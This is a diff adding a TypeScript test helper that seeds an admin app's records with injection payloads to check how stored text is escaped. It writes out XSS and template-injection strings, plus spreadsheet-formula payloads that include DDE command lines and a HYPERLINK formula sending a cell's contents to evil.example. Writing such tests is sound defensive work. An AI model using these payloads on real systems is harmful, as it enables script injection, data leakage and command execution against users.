@@ -1,0 +1,94 @@
+import { fieldsOf, recordFields, type Field } from '../../src/contract/describe.ts'
+import type { Entity } from '../../src/contract/entity.ts'
+import { sampleOf } from '../support/samples.ts'
+
+/** What all of them have in common: a search for it finds their records, and it is what they would run. */
+export const mark = 'pwned'
+
+/** Texts that would be markup, code, or a phrase with places to fill in, wherever one is taken for that. */
+export const markup = [
+  `<img src=x onerror="${mark}(1)">`,
+  `"><svg onload=${mark}(2)>`,
+  `'><script>${mark}(3)</script>`,
+  `</title></textarea></style><script>${mark}(4)</script>`,
+  `<iframe srcdoc="<script>parent.${mark}(5)</script>"></iframe>`,
+  `<a href="javascript:${mark}(6)" onmouseover=${mark}(6)>${mark}</a>`,
+  `\${${mark}(7)} {{constructor.constructor('${mark}(7)')()}} %{name} |||| ${mark}`,
+  `@@react-admin@@{"message":"<b onclick=${mark}(8)>"}`,
+] as const
+
+/** Texts that a spreadsheet would reckon with. */
+export const formulas = [
+  `=HYPERLINK("https://evil.example/?"&A1;"${mark}")`,
+  `+${mark}|' /C calc'!A0`,
+  `-2+3+${mark}|' /C calc'!A0`,
+  `@SUM(1+1)*${mark}`,
+  `＝1+1 ${mark}`,
+  `;=1+1,=2+2 "${mark}"`,
+] as const
+
+export const payloads: readonly string[] = [...markup, ...formulas]
+
+/** What a field of this kind is given; nothing where the kind takes no text of one's own. */
+function valueOf({ kind, maxLength, items }: Field, payload: string, given: unknown): unknown {
+  if (kind === 'text' || kind === 'longText') return payload.slice(0, maxLength)
+  if (kind === 'url') return `https://example.com/${payload.replaceAll(/\s/g, '/')}`
+  if (kind === 'properties') return { [payload]: payload }
+  if (kind !== 'items' || !Array.isArray(given)) return given
+  return given.map((one) => ({
+    ...(one as object),
+    ...Object.fromEntries(
+      (items ?? []).filter((item) => item.kind === 'text').map(({ name }) => [name, payload]),
+    ),
+  }))
+}
+
+/** Kinds whose values are texts of people's own, all or in part. */
+const open: readonly Field['kind'][] = ['text', 'longText', 'url', 'properties', 'items']
+
+/** The fields of an entity that are given payloads, those of its variants included, as a sample has them. */
+export const openFields = (entity: Entity): readonly Field[] =>
+  recordFields(entity, sampleOf(entity, 'open')).filter(
+    ({ kind, readOnly, path }) => open.includes(kind) && !readOnly && !isSpecial(entity, path),
+  )
+
+/** Texts with a form of their own, in which no payload is one. */
+const isSpecial = ({ name }: Entity, path: string) =>
+  [
+    'users.email',
+    'significant-events.link',
+    'saved-views.resource',
+    'allowed-hashes.hash',
+    'casinos.integrationOptions',
+    'casinos.publicKey',
+    'casinos.thirdPartyProviderPublicKey',
+  ].includes(`${name}.${path}`)
+
+/** A record that holds a payload in each such field; `at` makes what has to be unique so. */
+export function laden(entity: Entity, payload: string, at: string): Record<string, unknown> {
+  const record = structuredClone(sampleOf(entity, `${mark}${at}`))
+  for (const field of openFields(entity)) {
+    const [top = '', inner] = field.path.split('.')
+    if (inner === undefined) record[top] = valueOf(field, payload, record[top])
+    else {
+      const holder = record[top] as Record<string, unknown>
+      holder[inner] = valueOf(field, payload, holder[inner])
+    }
+  }
+  return record
+}
+
+/** A row of what only the server writes, its texts replaced: they come from other systems. */
+export function poisoned(
+  entity: Entity,
+  row: Record<string, unknown>,
+  payload: string,
+): Record<string, unknown> {
+  const texts = fieldsOf(entity).filter(({ kind, reference }) => kind === 'text' && !reference)
+  return {
+    ...row,
+    ...Object.fromEntries(
+      texts.filter(({ name }) => typeof row[name] === 'string').map(({ name }) => [name, payload]),
+    ),
+  }
+}
